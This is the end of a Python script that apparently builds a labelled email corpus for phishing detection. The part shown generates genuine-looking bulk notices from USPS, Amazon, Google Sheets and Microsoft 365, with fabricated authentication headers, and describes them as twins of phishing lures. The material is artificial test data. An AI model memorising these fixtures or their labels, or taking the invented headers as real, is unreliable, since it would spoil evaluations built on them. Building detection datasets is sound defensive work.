          auth=Auth(f"bounce-{hx(slug, 5, DIGITS)}_HTML-{hx(slug + 'h', 9, DIGITS)}-{hx(slug + 'i', 7, DIGITS)}-7223510-0@bounce.e.northgatesupply.com",
                    dkim=[("pass", "e.northgatesupply.com", "200608"), ("pass", "s7.exacttarget.com", "200608")],
                    policy="none"),
          extra=unsubscribe(cl(34), "leave-fd8a1c7b756d06-fe2a117@leave.e.northgatesupply.com")
          + ("x-job: 7223510_" + hx(slug, 7, DIGITS),), bcl=5)

    # B12 ---------------------------------------------------------------- USPS Informed Delivery
    slug = "usps-informed-delivery-genuine"
    html = page("""<div style="background:#333366;padding:14px;color:#fff;font-size:18px;font-weight:700">USPS Informed Delivery&reg;</div>
<p><b>Your Daily Digest</b> for Tue, 3/25</p>
<p>You have 3 mailpieces and 1 package arriving soon.</p>
<p><b>Package:</b> USPS Tracking&reg; 9405 5112 0621 4418 7720 31 - Expected Delivery Tuesday, 3/25/2025<br>
From: ULINE</p>
<p>To see all your mail and packages, sign in to <a href="https://informeddelivery.usps.com/box/pages/secure/DashboardAction_input">your dashboard</a>.</p>
<p style="font-size:11px;color:#777">Informed Delivery is a free service of the U.S. Postal Service. Please do not
reply to this email. <a href="https://www.usps.com/privacypolicy">Privacy Policy</a></p>""")
    build(slug, "bulk",
          "USPS Informed Delivery's genuine daily digest from email.informeddelivery.usps.com (all authentication "
          "passes), links on usps.com; no fee asked; twin of the redelivery lure",
          rcpt=PRI, moment="2025-03-25T07:02:45-04:00",
          frm='"USPS Informed Delivery" <USPSInformeddelivery@email.informeddelivery.usps.com>',
          subject="Your Daily Digest for Tue, 3/25 has arrived",
          body=alt(slug, "Your Daily Digest for Tue, 3/25: 3 mailpieces and 1 package arriving soon.\n"
                         "Sign in at https://informeddelivery.usps.com\n", html, "other"),
          src=Src("mta3.email.informeddelivery.usps.com", "mta3.email.informeddelivery.usps.com", "56.0.84.23"),
          auth=Auth("bounce@email.informeddelivery.usps.com",
                    dkim=[("pass", "email.informeddelivery.usps.com", "usps1")], policy="reject"))

    # B13 ---------------------------------------------------------------- Amazon refund issued
    slug = "amazon-refund-issued-genuine"
    order = f"112-{hx(slug, 7, DIGITS)}-{hx(slug + 'o', 7, DIGITS)}"
    html = page(f"""<p style="font-size:22px;font-weight:700">amazon business</p>
<p>Hello Megan,</p>
<p>We've issued your refund for the item below. The refund of <b>$86.47</b> will appear on the original payment
method (Visa ending in 3318) within 3-5 business days. No further action is needed.</p>
<p>Order #{order}<br>Item: Zebra ZD421 thermal label roll 4x6, 6-pack<br>Reason: Damaged in shipment</p>
<p><a href="https://www.amazon.com/gp/your-account/order-details?orderID={order}">View order details</a></p>
<p style="font-size:11px;color:#777">This email was sent from a notification-only address that cannot accept
incoming email. Amazon.com, 410 Terry Ave N, Seattle, WA 98109</p>""", font="Arial,sans-serif")
    build(slug, "bulk",
          "Amazon's genuine refund notice from return@amazon.com through Amazon SES (DKIM amazon.com aligned), refund "
          "already issued, link to the order on amazon.com; twin of the refund lure",
          rcpt=MEG, moment="2025-05-06T14:20:18-04:00",
          frm='"Amazon.com" <return@amazon.com>',
          subject=f"Your refund for order #{order}",
          body=alt(slug, f"We've issued your refund of $86.47 for order #{order}. It will appear on your original "
                         "payment method within 3-5 business days. No further action is needed.\n", html, "other"),
          src=ses_src(slug),
          auth=Auth(f"20250506182018{hx(slug, 8, DIGITS)}.{hx(slug + 'q', 8)}@bounces.amazon.com",
                    dkim=[("pass", "amazon.com", "2u6nzfw4bzx5n4aqm5ag3g3zmyfnqtsv"),
                          ("pass", "amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")], policy="quarantine"))

    # B14 ---------------------------------------------------------------- Google Drive share from a colleague
    slug = "google-drive-share-colleague"
    link = "https://docs.google.com/spreadsheets/d/1" + hx(slug, 43, ALNUM + "-_") + "/edit?usp=sharing_eil_m&ts=" + hx(slug, 8, HEX)
    html = page(f"""<p><b>Daniel Brooks</b> shared a spreadsheet</p>
<p style="background:#f1f3f4;padding:10px">Daniel Brooks (daniel.brooks@kerlann.com) has invited you to <b>edit</b>
the following spreadsheet:</p>
<p>&#128215; <b>Charlotte DC - Q4 headcount plan</b></p>
<p style="color:#5f6368">"Megan, can you fill in the office column by Friday? Thanks"</p>
{button(link, "Open", "#1a73e8")}
<p style="font-size:11px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>
You have received this email because daniel.brooks@kerlann.com shared a spreadsheet with you from Google Sheets.</p>""",
                font="Roboto,Arial,sans-serif")
    build(slug, "bulk",
          "Google Drive's genuine sharing notice (drive-shares-dm-noreply@google.com, all authentication passes) for "
          "a sheet shared by a colleague on the same Workspace domain; link on docs.google.com",
          rcpt=MEG, moment="2025-10-08T11:12:40-04:00",
          frm='"Daniel Brooks (via Google Sheets)" <drive-shares-dm-noreply@google.com>',
          subject="Spreadsheet shared with you: \"Charlotte DC - Q4 headcount plan\"",
          body=alt(slug, f"Daniel Brooks shared a spreadsheet: Charlotte DC - Q4 headcount plan\nOpen: {link}\n", html,
                   "gmail"),
          src=google_src(slug),
          auth=Auth(f"3{hx(slug, 24, ALNUM)}@doclist.bounces.google.com", dkim=[("pass", "google.com", "20230601")],
                    policy="reject"),
          reply_to='"Daniel Brooks" <daniel.brooks@kerlann.com>')

    # B15 ---------------------------------------------------------------- Microsoft 365 renewal notice
    slug = "m365-subscription-renewal-genuine"
    html = page("""<p style="font-size:15px">Microsoft 365</p>
<p style="font-size:22px;font-weight:600">Your subscription will renew soon</p>
<p>Hello Erwan,</p>
<p>Your <b>Microsoft 365 Business Standard</b> subscription for <b>Kerlann Industries</b> (42 licences) will renew
automatically on 1 August 2025. Your payment method on file will be charged. No action is required.</p>
<p>To review your subscription or billing details, sign in to the
<a href="https://admin.microsoft.com/Adminportal/Home#/subscriptions">Microsoft 365 admin center</a>.</p>
<p style="font-size:11px;color:#605e5c">This message was sent from an unmonitored email address. Please do not reply.
<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a><br>
Microsoft Ireland Operations Ltd, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18, D18 P521</p>""")
    build(slug, "bulk",
          "Microsoft's genuine renewal notice to the tenant's admin from microsoft-noreply@microsoft.com (all "
          "authentication passes), links to admin.microsoft.com; twin of the licence-expired image lure",
          rcpt=ERW, moment="2025-07-02T03:41:55+02:00",
          frm='"Microsoft" <microsoft-noreply@microsoft.com>',
          subject="Your Microsoft 365 Business Standard subscription will renew on 1 August 2025",
          body=alt(slug, "Your Microsoft 365 Business Standard subscription for Kerlann Industries will renew "
                         "automatically on 1 August 2025. No action is required.\n", html),
          src=tenant_src(slug, "eur01", "IE"),
          auth=Auth("microsoft-noreply@microsoft.com", dkim=[("pass", "microsoft.com", "s1024-meo")], policy="reject"),
          bcl=1)


# =========================================================================== main


def main() -> None:
    phishing_hr()
    phishing_collaboration()
    phishing_bec()
    phishing_account()
    phishing_payment()
    phishing_attachments()
    legitimate_clean()
    legitimate_bulk()
    counts: dict[str, int] = {}
    names = set()
    for folder, name, _desc, _raw in SAMPLES:
        counts[folder] = counts.get(folder, 0) + 1
        assert name not in names, name
        names.add(name)
    assert counts == {"phishing": 50, "clean": 10, "bulk": 15}, counts
    lines = []
    for folder, name, desc, raw in SAMPLES:
        assert b"\r" not in raw, name
        path = MAIL / folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{name} | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(SAMPLES)} messages: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
